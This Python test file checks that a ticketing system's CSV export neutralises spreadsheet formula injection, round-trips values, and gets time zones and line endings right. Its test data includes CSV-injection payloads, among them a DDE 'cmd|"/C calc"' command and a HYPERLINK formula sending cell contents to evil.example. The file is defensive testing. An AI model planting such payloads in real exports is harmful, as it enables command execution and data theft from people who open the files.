"""CSV that comes back as it was written, and in which no spreadsheet program finds a formula."""

import csv
import io
import json
import re
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ticketing.domain import csv_rows
from ticketing.domain.csv_rows import guarded, unguarded

ZURICH = ZoneInfo("Europe/Zurich")

_FAKES = Path(__file__).parents[2] / "fakes"
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_BEFORE = (
    "",
    " ",
    "\u00a0",
    "\ufeff",
    "\u200b",
    "\u2060",
    '"',
    "\u3000",
    "\x00",
    "\u202e",
    "\n",
    "x;",
    "x\t",
    "x\n",
    'x;"',
)
_PAYLOADS = ('cmd|"/C calc"!A0', 'HYPERLINK("https://evil.example?"&A1,"open")', "1+1", "SUM(1)*cmd")
_TEXTS = (
    *(
        "+41445550123",
        "+41 44 555 01 23",
        "+41-44-555",
        "044/555 01 23",
        "(044) 555",
        "007",
        "1-2",
        "2026-03-01",
        "12:30",
    ),
    *("10:30 pm", "3 PM", "10 am", "10 a.m.", "2026-03-01T10:00", "2026-03-01T10:00Z", "Mar 1", "1 March 2026"),
    *("Mar 2026", "Jan-26", "1-sep", "01/Feb/2026", "5 Maybe", "Room 204", "room 12 t", "Mart 5"),
    *(
        "1E5",
        "5%",
        "1 234",
        "1'000",
        "'",
        "''",
        "'=1",
        "'quoted'",
        "a;'b",
        "a\n'b",
        "a\r\n- b",
        "",
        " ",
        ",",
        '"',
        '""',
    ),
    *(
        "a,b",
        'say "AC"',
        "two\r\nlines",
        "Zoë",
        "部屋",
        "\U0001f6bf",
        "a;b",
        "a\\",
        "\\,",
        "tail ",
        "#REF!",
        "TRUE",
        "NULL",
    ),
)


def _hostile() -> list[str]:
    known: dict[str, list[str]] = json.loads((_FAKES / "hostile_strings.json").read_text("ascii"))
    encodable = [text for some in known.values() for text in some if not re.search(r"[\ud800-\udfff]", text)]
    made = [f"{before}{one}{payload}" for before in _BEFORE for one in _TRIGGERS for payload in _PAYLOADS]
    return [*encodable, *made, *_TEXTS]


HOSTILE = _hostile()


def shown(**changes: Any) -> dict[str, Any]:
    """A ticket as the API shows it."""
    ticket: dict[str, Any] = {
        "number": 7,
        "id": "tkt_aaaaaaaaaaaaaaaa",
        "chat": {"id": "chat_1", "guest_name": "Zoë Meier"},
        "channel": {"id": "desk", "name": "Front desk", "type": "email"},
        "issue": {"id": "maintenance", "label": "Maintenance"},
        "sub_issue": None,
        "priority": "high",
        "status": {"id": "open", "name": "Open", "category": "open"},
        "assignee": None,
        "creator": {"id": "mem_ana", "name": "Ana", "type": "member"},
        "watchers": [{"name": "Ana"}, {"name": "Ben"}],
        "remark_preview": None,
        "remark_count": 0,
        "media_count": 0,
        "source": "api",
        "external_id": None,
        "version": 3,
        "created_at": "2026-03-01T22:10:05.123Z",
        "updated_at": "2026-03-29T01:00:00.000Z",
        "resolved_at": None,
    }
    return ticket | changes


def opened(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def a_file(*tickets: tuple[dict[str, Any], str | None]) -> str:
    return csv_rows.header(ZURICH) + "".join(csv_rows.row(one, phone, ZURICH) for one, phone in tickets)


def pieces(cell: str) -> list[str]:
    """The cells that a program makes of this one, whatever it takes for the end of a cell or line."""
    return [piece.lstrip(' "\u00a0\ufeff\u200b\u2060\u3000\x00\u202e') for piece in re.split(r"[;\t\r\n]", cell)]


def test_every_hostile_cell_comes_back_as_it_was() -> None:
    lines = [(shown(remark_preview=text, chat={"id": "c", "guest_name": text}), text) for text in HOSTILE]
    read = opened(a_file(*lines))
    came_back = [(unguarded(one["remark_preview"]), unguarded(one["guest_phone"])) for one in read]
    assert came_back == [(text, text) for text in HOSTILE]
    assert len(set(HOSTILE)) > 100
    print(f"{len(HOSTILE)} hostile cells written and read again")


@pytest.mark.parametrize("before", _BEFORE)
@pytest.mark.parametrize("trigger", _TRIGGERS)
def test_no_cell_begins_like_a_formula(before: str, trigger: str) -> None:
    for payload in _PAYLOADS:
        cell = guarded(f"{before}{trigger}{payload}")
        assert not [piece for piece in pieces(cell) if piece.startswith(tuple("=+-@＝＋－＠"))], cell
        assert not cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    "text",
    [
        *("+41445550123", "+41 44 555 01 23", "044/555-01", "(044) 555", "007", "1-2", "12:30", "1E5", "true"),
        *("10:30 pm", "3 PM", "10 a.m.", "2026-03-01T10:00Z", "Mar 1", "1 March 2026", "Jan-26", "01/Feb/2026"),
    ],
)
def test_what_looks_like_a_number_stays_text_that_people_can_read(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Room 204",
        "5 Maybe",
        "March",
        "3 PMS",
        "AC not cooling",
        "a = b",
        "Zoë O'Hara",
        "1st floor",
        "two\n\nlines",
        "tkt_7",
    ],
)
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from("='+-@;\t\r\n \"\ufeff\u200b＝05ae,."), max_size=12))
def test_what_was_guarded_can_be_told_from_what_was_written(text: str) -> None:
    assert unguarded(guarded(text)) == text


def test_times_are_those_of_the_zone_that_the_column_names() -> None:
    (read,) = opened(a_file((shown(), None)))
    assert read["created_at (Europe/Zurich)"] == "2026-03-01T23:10:05.123+01:00"
    assert read["updated_at (Europe/Zurich)"] == "2026-03-29T03:00:00.000+02:00"  # the clocks have just gone forward
    assert read["resolved_at (Europe/Zurich)"] == ""


def test_every_column_is_there() -> None:
    ticket = shown(
        sub_issue={"id": "hvac", "label": "HVAC"},
        assignee={"id": "team_x", "name": "Night shift", "type": "team"},
        external_id="PMS-4711",
        remark_preview="AC not cooling",
        remark_count=2,
    )
    (read,) = opened(a_file((ticket, "+41 44 555 01 23")))
    assert [value for name, value in read.items() if "_at (" not in name] == [
        *(
            "7",
            "tkt_aaaaaaaaaaaaaaaa",
            "Open",
            "open",
            "high",
            "Maintenance",
            "HVAC",
            "Night shift",
            "Ana",
            "Front desk",
        ),
        *("api", "Zoë Meier", "'+41 44 555 01 23", "chat_1", "PMS-4711", "AC not cooling", "2", "0", "Ana, Ben", "3"),
    ]


@pytest.mark.parametrize("text", ["a,b", "a;b", "a\tb", "a\nb", "a\rb"])
def test_a_text_that_any_program_might_part_is_between_quotation_marks(text: str) -> None:
    """LibreOffice parts cells at commas, semicolons and tabs, unless it is told otherwise."""
    assert f',"{text}",' in a_file((shown(remark_preview=text), None))


def test_lines_end_as_rfc_4180_says() -> None:
    written = a_file((shown(remark_preview="one\ntwo"), None))
    assert written.endswith(",3\r\n")
    assert '"one\ntwo"' in written
